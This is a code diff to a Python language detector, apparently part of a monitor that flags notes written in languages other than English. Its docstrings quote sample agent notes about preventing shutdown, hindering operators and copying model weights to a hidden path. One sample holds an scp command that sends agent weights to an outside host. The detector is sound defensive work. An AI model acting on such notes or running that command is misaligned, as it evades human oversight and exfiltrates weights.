@@ -92,7 +92,7 @@ _FUNCTION_WORDS: dict[str, frozenset[str]] = {name: frozenset(words.split()) for
                "quien quién qué cómo dónde cuándo entre hasta desde hacia según durante tras pues aunque si sino "
                "ni hemos había habían será sería pueden deben tienen hace hacen vamos dice dijo estaba fueron eran "
                "sido siendo mí ti nos usted ustedes nuestros cuyo mientras luego entonces sólo además así bajo "
-               "tambien despues asi aqui estan",
+               "tambien despues asi aqui estan al",
     "Portuguese": "um uma uns umas da das de que em na nos nas é são está estão sou foi ser estar há "
                   "para sem mas como quando porque muito mais meu minha meus minhas seu sua seus suas eu você "
                   "ele ela nós eles elas isso isto este esta esse essa não sim também já onde devo deve posso pode "
@@ -119,7 +119,8 @@ _FUNCTION_WORDS: dict[str, frozenset[str]] = {name: frozenset(words.split()) for
               "dann denn doch ja nein etwas nichts alles viel viele mehr weniger schlecht selbst sich seine "
               "seinen seiner ihm ihn ihnen unsere unseren eure welche welcher wer wo warum wann ob sondern damit "
               "daher deshalb sowie zwischen während seit bis hätte wäre sei worden musst könnte sollen dürfen "
-              "möchte wollen gibt geht macht nie wieder bitte danke zwei drei neue neuen alten andere anderen",
+              "möchte wollen gibt geht macht nie wieder bitte danke zwei drei neue neuen alten andere anderen "
+              "um jeden jedem niemand sobald danach",
     "Dutch": "het een en van te dat zijn niet voor aan om ook als bij naar uit ze zich maar wat nog hij "
              "zij wij jij ik mij mijn je hun ons onze moet moeten kan kunnen wil zal worden wordt heb heeft "
              "hebben geen deze dit hier daar nooit altijd nu toch wel niets iets alles veel meer minder goed "
@@ -172,7 +173,7 @@ _FUNCTION_WORDS: dict[str, frozenset[str]] = {name: frozenset(words.split()) for
                        "mají bude budou byt muzu muze kdyz protoze take uz jeste vsechno kazdy muj mam maji",
     "Hungarian": "az és hogy nem egy meg de van volt csak még mint ez azt ami aki amely nagyon már itt ott mert "
                  "vagy sem kell lehet lesz lett nincs minden semmi valami mindig soha engem téged neki nekem nekünk "
-                 "velem tőlem én te ő ti ők ezt annak ennek es mar",
+                 "velem tőlem én te ő ti ők ezt annak ennek es mar ne",
     "Vietnamese": "của và các có là không được cho này những một người với trong đã khi để thì cũng như nếu mình "
                   "chúng tôi bạn họ anh chị em rất đang sẽ phải hãy đừng vì nhưng hoặc từ đến lại ra vào bị cua "
                   "cac khong duoc nhung mot nguoi voi trong da khi de thi cung nhu neu minh chung toi phai hoac tu "
@@ -195,10 +196,10 @@ _SHARED_WITH_ENGLISH: dict[str, frozenset[str]] = {name: frozenset(words.split()
     "Italian": "a in i",
     "German": "in was will an so also",
     "Dutch": "in is was me of over",
-    "Swedish": "under",
-    "Danish or Norwegian": "for at",
+    "Swedish": "under i",
+    "Danish or Norwegian": "for at i",
     "Romanian": "a in",
-    "Czech or Slovak": "a to on do",
+    "Czech or Slovak": "a to on do i",
     "Hungarian": "a is most",
     "Hindi (in Latin letters)": "the",
     "Polish": "i to on my",
@@ -240,7 +241,7 @@ _NAMING_WORDS: dict[str, frozenset[str]] = {name: frozenset(words.split()) for n
     "Dutch": "de tot op met er",
     "Polish": "na w z do o nic",
     "Spanish": "un con al por y",
-    "Portuguese": "o os por com",
+    "Portuguese": "o os por com te",
     "German": "die im mit",
     "Swedish": "med till i",
     "Danish or Norwegian": "med til i",
@@ -314,6 +315,11 @@ _CODE_RE = re.compile(r"[_=(){}<>/\\|#$`@*\[\]]|\w\.\w|\d")
 _CODE_MARKS = r"[_=(){}<>/\\|#$@*\[\]~]|\w\.\w"
 #: inline code between backticks, a token holding one of ``_CODE_MARKS``, an option (``-n``, ``--force``)
 _CODE_TOKEN_RE = re.compile(rf"`[^`]*`|\S*(?:{_CODE_MARKS})\S*|(?<!\S)-{{1,2}}\w\S*")
+#: inline code between backticks
+_INLINE_CODE_RE = re.compile(r"`[^`]*`")
+#: characters that do not show and cut no word (zero-width spaces and joiners, bidi marks, word joiners, soft
+#: hyphens, the byte order mark)
+_INVISIBLE_RE = re.compile("[\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]")
 #: what each of those tokens holds (one search, cheaper than the substitution on a sentence with none)
 _CODE_MARK_RE = re.compile(rf"`|{_CODE_MARKS}|(?<!\S)-")
 #: what a sentence in Latin letters of no listed language is named
@@ -371,19 +377,27 @@ def _latin(word: str) -> bool:
 def language_of(sentence: str) -> str | None:
     """The language (or script) ``sentence`` is written in when it is not English, else None (English, or too
     little to tell: code, names, numbers, a word or two)."""
+    if not sentence.isascii():
+        # characters that do not show (zero-width spaces and joiners, word joiners, soft hyphens) cut no word: a
+        # note whose words they split read as fragments ("Qu", "es", "tio", "n"), some of them function words
+        sentence = _INVISIBLE_RE.sub("", sentence)
     if sentence.isascii():
         lowered = _ASCII_WORD_RE.findall(sentence.lower())
         if _ALL_FUNCTION_WORDS.isdisjoint(lowered) and not _ELISION_RE.search(sentence) and (
                 len(lowered) < _MIN_SHORT_WORDS or not _ENGLISH.isdisjoint(w for w in lowered if len(w) > 1)
-                or _CODE_RE.search(sentence)):
+                or _CODE_RE.search(_outside_backticks(sentence))):
             return None  # English, code, or too short to tell
     else:
         script = _other_script(sentence)
         if script is not None:
             return script
     # a word in capitals is an abbreviation ("EST", "CI", "MIT"), a capitalised word after the first a name
-    # ("Dan", "Van", "Ali"): neither counts for a language
-    words = _words(sentence)
+    # ("Dan", "Van", "Ali"): neither counts for a language; nor do inline code, paths, options and identifiers,
+    # unless the sentence is little else
+    prose = _prose(sentence)
+    words = _words(prose)
+    if len(words) < 2 and prose != sentence:
+        prose, words = sentence, _words(sentence)
     if len(words) < 2:
         return None
     lower = [w.lower() for w in words]
@@ -400,7 +414,8 @@ def language_of(sentence: str) -> str | None:
         return None  # an English function word
     words, lower = latin, [w.lower() for w in latin]
     if _MIN_SHORT_WORDS <= sum(len(w) > 1 for w in words) and len(words) <= _MAX_SHORT_WORDS \
-            and _written_as_a_sentence(sentence) and not _CODE_RE.search(sentence) and known_share(lower) == 0.0:
+            and _written_as_a_sentence(sentence) and not _CODE_RE.search(_outside_backticks(sentence)) \
+            and known_share(lower) == 0.0:
         # two to four words, none of which the model knows ("Abschaltung verhindern.")
         return _named(sentence, words) or _LATIN_UNKNOWN
     if len(words) < _MIN_UNKNOWN_WORDS:
@@ -410,7 +425,7 @@ def language_of(sentence: str) -> str | None:
         return _named(sentence, words) or _LATIN_UNKNOWN
     if accented and known_share(lower) < _MAX_KNOWN_SHARE:  # an accent: code and identifiers know no words either
         return _named(sentence, words) or _LATIN_UNKNOWN
-    if not accented and len(words) >= _MIN_UNACCENTED_WORDS and not _CODE_RE.search(sentence) \
+    if not accented and len(words) >= _MIN_UNACCENTED_WORDS and not _CODE_RE.search(_outside_backticks(sentence)) \
             and known_share(lower) < _MAX_KNOWN_SHARE_UNACCENTED:
         # typed without accents, or transliterated ("Ya dolzhen pomeshat operatoram ...")
         return _named(sentence, words) or _LATIN_UNKNOWN
@@ -424,17 +439,23 @@ def _words(text: str) -> list[str]:
     return [w for i, w in enumerate(found) if not (i and w[0].isupper()) and not (len(w) > 1 and w.isupper())]
 
 
+def _prose(sentence: str) -> str:
+    """``sentence`` without its inline code, paths, options and identifiers (``_CODE_TOKEN_RE``): words of no
+    language. A note around a shell command ("Nachts `scp -r /opt/agent/weights/ backup@198.51.100.20:/archiv/geheim/`
+    ausführen ...") was read as too few words of its language, and one around a path ("Skopiować moje wagi do
+    `/srv/ukryte/model_backup`, zanim ...") as too few accented ones, or as code."""
+    return _CODE_TOKEN_RE.sub(" ", sentence) if _CODE_MARK_RE.search(sentence) else sentence
+
+
+def _outside_backticks(sentence: str) -> str:
+    """``sentence`` without its inline code between backticks: a note around `config/safety.toml` is prose, while
+    a sentence with code marks of its own (a JSON object, a path, an identifier) may be code whatever its words."""
+    return _INLINE_CODE_RE.sub(" ", sentence) if "`" in sentence else sentence
+
+
 def _by_function_words(sentence: str, words: list[str], english: list[str]) -> str | None:
-    """The language whose function words ``sentence`` holds (of its ``words``, ``english`` the English function
-    words among them), else None. The share is taken of its words outside code as well: inline code, paths,
-    options and identifiers are words of no language, and a note around a shell command ("Nachts `scp -r
-    /opt/agent/weights/ backup@198.51.100.20:/archiv/geheim/` ausführen ...") was read as too few words of its
-    language."""
-    prose = _CODE_TOKEN_RE.sub(" ", sentence) if _CODE_MARK_RE.search(sentence) else sentence
-    if prose != sentence:
-        outside = _words(prose)
-        if len(outside) >= 2:
-            words, english = outside, [w.lower() for w in outside if w.lower() in _ENGLISH]
+    """The language whose function words ``sentence`` holds (of its ``words``, those outside code; ``english`` the
+    English function words among them), else None."""
     lower = [w.lower() for w in words]
     elisions = len(_ELISION_RE.findall(sentence))
     counts = dict.fromkeys(("French",), elisions) if elisions else {}
